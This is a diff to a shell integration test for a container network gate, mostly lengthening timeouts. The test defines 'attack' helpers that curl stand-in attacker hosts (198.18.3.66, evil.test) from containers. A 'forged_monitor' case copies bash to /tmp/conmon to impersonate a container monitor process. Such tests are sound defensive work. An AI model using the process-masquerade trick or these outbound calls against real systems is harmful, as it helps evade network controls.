@@ -50,9 +50,9 @@ client() {
     *) docker exec "$IN" "$@" ;;
     esac
 }
-attack() { client curl -s --max-time 2 "http://198.18.3.66/$1"; }
-attack_six() { client curl -s --max-time 2 "http://[2001:db8:3::66]/$1"; }
-attack_name() { client timeout 5 getent ahostsv4 "$1.evil.test"; }
+attack() { client curl -s --max-time 15 "http://198.18.3.66/$1"; }
+attack_six() { client curl -s --max-time 15 "http://[2001:db8:3::66]/$1"; }
+attack_name() { client timeout 15 getent ahostsv4 "$1.evil.test"; }
 held() {
     local n from
     n=$(nonce)
@@ -73,18 +73,21 @@ works() {
 }
 says() {
     local IN=$1
-    [ "$(client timeout 5 sh -c 'echo hello | socat -t 2 - "$1"' sh "$2")" = hello ]
+    [ "$(client timeout 20 sh -c 'echo hello | socat -t 15 - "$1"' sh "$2")" = hello ]
 }
 listens() { # NAME of a container, and of its engine
     IN=$1 client sh -c 'socat TCP4-LISTEN:9000,fork,reuseaddr EXEC:cat > /dev/null 2>&1 &'
 }
 each_other() { says default1 TCP4:172.17.0.3:9000 && says user1 TCP4:user2:9000; }
 each_other_rootless() { says own2 TCP4:own3:9000; }
-published() { [ "$(echo hello | h g timeout 3 socat -t 2 - "TCP4:198.18.1.2:${1:-8080}")" = hello ]; }
+published() { [ "$(echo hello | h g timeout 20 socat -t 15 - "TCP4:198.18.1.2:${1:-8080}")" = hello ]; }
 hairpin() { says user1 TCP4:198.18.1.2:8080; }
 
 PLACES=(default1 user1 six1 host1 joined1 pod1 pod2 less1 less2 own1 own2 own4)
-for IN in default1 default2 user2 own1 own3; do listens $IN; done
+for IN in default1 default2 user2 own1 own3; do
+    listens $IN
+    eventually 10 client grep -q :2328 /proc/net/tcp
+done
 for IN in "${PLACES[@]}"; do
     check "$IN: without the gate" attack_reaches attack
     check "$IN: without the gate, by a name" attack_reaches attack_name
@@ -124,7 +127,7 @@ podman_lines() {
 # A process of a container that looks like a monitor is none.
 forged_monitor() {
     IN=default1 client sh -c 'cp /bin/bash /tmp/conmon && /tmp/conmon -c "sleep 3600 & wait" -n less1 > /dev/null 2>&1 &'
-    eventually 5 docker exec default1 pgrep -x conmon
+    eventually 15 docker exec default1 pgrep -x conmon
     finds "cgroup $CGROUP/builder " container less1
 }
 wrong_lines() {
@@ -205,7 +208,7 @@ gate_down
 
 # The host's resolver on loopback: 127.0.0.11 cannot ask it from the container's network, so dockerd asks from the host's.
 start "$T/stub.log" c dnsmasq -k --no-resolv --no-hosts --server=198.18.2.53 --listen-address=127.0.0.1 --bind-interfaces --user=root --pid-file=
-eventually 5 h c sh -c 'ss -lnu | grep -q 127.0.0.1:53'
+eventually 15 h c sh -c 'ss -lnu | grep -q 127.0.0.1:53'
 resolver c 127.0.0.1
 WARNING="Docker's resolver for containers"
 docker_run stub1 --network user
